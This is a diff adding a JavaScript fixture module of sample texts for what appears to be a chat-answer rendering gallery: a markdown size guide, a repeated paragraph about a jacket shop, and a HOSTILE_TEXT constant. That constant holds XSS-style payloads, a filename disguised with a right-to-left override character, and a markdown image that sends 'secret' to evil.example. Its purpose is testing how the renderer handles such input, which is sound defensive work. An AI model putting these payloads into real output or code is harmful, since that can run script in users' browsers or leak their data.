@@ -1,0 +1,42 @@
+// The longer texts of the gallery.
+
+export const RICH_ANSWER = `Here is a bit of everything.
+
+## Sizes
+
+| Size | Chest | Back |
+| --- | --- | --- |
+| S | 88–94 cm | 72 cm |
+| M | 95–101 cm | 74 cm |
+| L | 102–109 cm | 76 cm |
+
+### How to measure
+
+1. Stand straight.
+2. Put the tape around the *widest* part:
+   - not over a pullover
+   - not pulled tight
+3. Compare with the table.
+
+> A jacket for cycling may be one size longer in the back.
+
+\`\`\`js
+const size = chest < 95 ? 'S' : chest < 102 ? 'M' : 'L';
+console.log(\`Take \${size}, and don't forget that this line is long enough to scroll\`);
+\`\`\`
+
+More in the [size guide](https://shop.example/help/sizes), or \`npm run measure\`. ![A tape](https://cdn.shop.example/tape.png)
+`;
+
+const PARAGRAPH =
+  'The shop began in a bicycle shed in 1998, with one sewing machine and forty metres of waxed cotton. The first jackets were heavy, and they kept the rain out for exactly one winter; the second ones are still worn.';
+
+export const LONG_ANSWER = Array.from(
+  { length: 12 },
+  (_, index) => `**Part ${index + 1}.** ${PARAGRAPH}`,
+).join('\n\n');
+
+export const HOSTILE_TEXT =
+  '<img src=x onerror=alert(1)> [click](javascript:alert(1)) \u202egnp.exe\u202c ' +
+  'Aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa ' +
+  '![x](https://evil.example/?q=secret) **bold** مرحبا بالعالم';
